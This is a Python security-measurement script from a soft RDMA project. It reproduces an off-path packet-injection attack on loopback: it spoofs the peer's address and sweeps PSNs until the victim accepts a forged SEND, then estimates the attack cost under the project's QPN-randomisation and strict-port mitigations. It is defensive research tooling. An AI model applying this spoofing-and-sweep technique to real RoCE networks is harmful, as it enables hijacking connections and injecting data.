#!/usr/bin/env python3
"""Measure what it costs an off-path sender to inject a SEND into an idle RC connection.

The method of issue 10 (finding 3), made reproducible: two soft devices on live UDP sockets
on loopback (the victim and its real peer, each with its progress thread) connect an RC QP
pair and sit idle, the victim with receives posted. The attacker, in the same process but
only through a UDP socket, sends RC SEND ONLY packets to the victim's QPN with the peer's IP
address as source (on loopback a socket can simply bind to the peer's address, with a port
of its own) and a correct ICRC, sweeping the PSN from 0 upwards, until the victim completes
a receive. The victim's expected PSN is drawn (seeded) uniformly in the swept window, so the
cost of one trial is uniform in [1, 2^bits] packets and its mean is (2^bits + 1) / 2.

The attacker keeps at most ``--inflight`` packets ahead of what the victim has read, so the
kernel drops none and the rate measured is the victim's: how fast softrdma can be probed.

Reported per trial: packets until the first accepted one, seconds, packets/s, and what the
victim sent back to its peer meanwhile (re-ACKs of "duplicates": reflection). Then the
expected cost of the full search space at the measured rate: PSN (24 bits) x QPN (what the
attacker must guess of it) x source port (strict mode, when the peer's QPN is unknown).

    python scripts/injection_cost.py                    # this tree
    PYTHONPATH=/path/to/main python scripts/injection_cost.py   # another checkout
    python scripts/injection_cost.py --strict --attacker-port path   # knows both QPNs
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import sys
import time


def _setup(args, trial):
    from softrdma.harness.testing import Endpoint, connect
    from softrdma.verbs_api import Context, QPCap
    from softrdma.verbs_api.device import add_device
    tag = f"{trial}-{random.randrange(1 << 30)}"
    peer = add_device(args.peer, name=f"inj-peer-{tag}")
    victim = add_device(args.victim, name=f"inj-victim-{tag}")
    strict_supported = hasattr(victim, "strict")
    if args.strict:
        if not strict_supported:
            sys.exit("this softrdma has no strict mode")
        victim.strict = peer.strict = True
    peer.attach_udp()
    victim.attach_udp()
    cap = QPCap(max_send_wr=16, max_recv_wr=16, max_send_sge=1, max_recv_sge=1)
    a = Endpoint(Context(name=peer.name), "RC", 1 << 16, cap, 64)
    b = Endpoint(Context(name=victim.name), "RC", 1 << 16, cap, 64)
    return peer, victim, a, b, connect


def trial(args, k: int, rng: random.Random) -> dict:
    from softrdma.wire.icrc import set_icrc_ipv4
    from softrdma.wire.opcodes import Opcode
    from softrdma.wire.packet import build
    window = 1 << args.bits
    expected = rng.randrange(window)  # the victim's next PSN, unknown to the attacker
    peer, victim, a, b, connect = _setup(args, k)
    try:
        connect(a, b, expected, 0x123456)
        connect(b, a, 0x123456, expected)
        # idle: nothing has been sent yet, so the peer has not bound the path's source port
        # and an attacker who knows it (--attacker-port path) can bind it on loopback
        for i in range(4):
            b.post_recv(b.sge(64 * (i + 1), 64), 10 + i)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if args.attacker_port == "path":
            port = a.qp.engine.src_port  # the port the path determines; the real peer's own
            s.bind((args.peer, port))
        else:
            s.bind((args.peer, 0))
        sport = s.getsockname()[1]
        qpn = b.qp.qp_num  # the attacker is given the QPN: the cost below is the PSN's alone
        src, dst = socket.inet_aton(args.peer), socket.inet_aton(args.victim)
        pkts = []
        for psn in range(window):
            raw = build(Opcode.RC_SEND_ONLY, dest_qp=qpn, psn=psn, payload=psn.to_bytes(4, "big"))
            set_icrc_ipv4(raw, src, dst, sport)
            pkts.append(bytes(raw))
        vc, pc = victim.counters, peer.counters
        rcvd0, vsent0, prcvd0 = vc.rcvd_pkts, vc.sent_pkts, pc.rcvd_pkts
        addr = (args.victim, 4791)
        t0 = time.perf_counter()
        sent = 0
        hit_t = None
        while sent < window:
            while sent - (vc.rcvd_pkts - rcvd0) >= args.inflight:
                time.sleep(0.0001)
            end = min(window, sent + args.batch)
            for p in pkts[sent:end]:
                s.sendto(p, addr)
            sent = end
            if len(b.cq):
                hit_t = time.perf_counter()
                break
        if hit_t is None:  # the last batch may still be in the victim's socket
            _wait(lambda: vc.rcvd_pkts - rcvd0 >= sent or len(b.cq) > 0, 10)
            if len(b.cq):
                hit_t = time.perf_counter()
        t_end = hit_t or time.perf_counter()
        _wait(lambda: vc.rcvd_pkts - rcvd0 >= sent, 10)
        s.close()
        wcs = b.cq.poll_all()
        res = {"bits": args.bits, "expected_psn": expected, "attacker_sport": sport,
               "path_sport": a.qp.engine.src_port, "victim_qpn": qpn, "sent": sent,
               "received_by_victim": vc.rcvd_pkts - rcvd0, "accepted": len(wcs)}
        if wcs:
            first = int.from_bytes(b.mr.read(4, 64 * (wcs[0].wr_id - 10 + 1)), "big")
            res["first_accepted_psn"] = first
            res["cost_packets"] = first + 1  # the sweep starts at 0
        else:
            res["cost_packets"] = None
        res["seconds"] = round(t_end - t0, 3)
        res["victim_pkts_per_s"] = round((vc.rcvd_pkts - rcvd0) / max(time.perf_counter() - t0, 1e-9))
        res["victim_sent_to_peer"] = vc.sent_pkts - vsent0
        res["peer_received"] = pc.rcvd_pkts - prcvd0
        res["victim_drops"] = dict(vc.drops)
        return res
    finally:
        a.close(), b.close()
        for d in (victim, peer):
            d.detach()
            from softrdma.verbs_api.device import unregister_device
            unregister_device(d.name)


def _wait(cond, timeout):
    end = time.monotonic() + timeout
    while not cond():
        if time.monotonic() > end:
            return False
        time.sleep(0.001)
    return True


def expected_costs(rate: float) -> dict:
    """Mean packets to hit one idle QP when the attacker must guess each unknown; a sweep
    without repeats over N equally likely combinations takes (N + 1) / 2 on average."""
    psn = 1 << 24
    qpn_seq = 1  # rxe's order: the first QP of a fresh device is 16 (17 with one other QP)
    qpn_rand = 0xFFFFFE - 16 + 1
    sport = 1 << 14  # 0xC000 | 14 bits: what the path's port can be when the QPNs are unknown
    rows = {
        "psn only (QPN known; rxe and softrdma before)": psn * qpn_seq,
        "psn x random QPN (softrdma default now)": psn * qpn_rand,
        "psn x random QPN x source port (softrdma strict)": psn * qpn_rand * sport,
    }
    out = {}
    for name, n in rows.items():
        mean = (n + 1) / 2
        out[name] = {"combinations": n, "mean_packets": mean, "mean_seconds": mean / rate,
                     "mean_years": mean / rate / 3.156e7}
    return out


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--bits", type=int, default=16, help="swept PSN window: 2^bits (16)")
    p.add_argument("--trials", type=int, default=3)
    p.add_argument("--seed", type=int, default=1, help="draws the victim's PSNs (1)")
    p.add_argument("--victim", default="127.77.0.2")
    p.add_argument("--peer", default="127.77.0.1")
    p.add_argument("--strict", action="store_true", help="victim and peer in strict mode")
    p.add_argument("--attacker-port", choices=["own", "path"], default="own",
                   help="own: a port of the attacker's socket; path: the connection's port "
                        "(an attacker who knows both QPNs)")
    p.add_argument("--inflight", type=int, default=64)
    p.add_argument("--batch", type=int, default=32)
    p.add_argument("--json", action="store_true")
    args = p.parse_args()
    import softrdma
    rng = random.Random(args.seed)
    results = [trial(args, k, rng) for k in range(args.trials)]
    rate = sum(r["victim_pkts_per_s"] for r in results) / len(results)
    summary = {"softrdma": softrdma.__file__, "strict": args.strict,
               "attacker_port": args.attacker_port, "trials": results,
               "mean_cost_packets": (sum(r["cost_packets"] for r in results) / len(results)
                                     if all(r["cost_packets"] for r in results) else None),
               "mean_victim_pkts_per_s": round(rate), "full_space": expected_costs(rate)}
    if args.json:
        print(json.dumps(summary, indent=1))
        return 0
    print(f"softrdma from {summary['softrdma']}; strict={args.strict}; attacker port: "
          f"{args.attacker_port}; window 2^{args.bits}")
    for r in results:
        drops = {k: v for k, v in r["victim_drops"].items()}
        print(f"  victim PSN {r['expected_psn']:>6}: cost {r['cost_packets']} packets, "
              f"{r['seconds']} s, {r['victim_pkts_per_s']} pkt/s; accepted {r['accepted']}; "
              f"victim sent {r['victim_sent_to_peer']} packets to its peer; drops {drops}")
    print(f"  mean cost {summary['mean_cost_packets']} packets, victim rate {round(rate)} pkt/s")
    for name, c in summary["full_space"].items():
        print(f"  full space, {name}: {c['mean_packets']:.3g} packets, "
              f"{c['mean_seconds']:.3g} s ({c['mean_years']:.3g} years)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
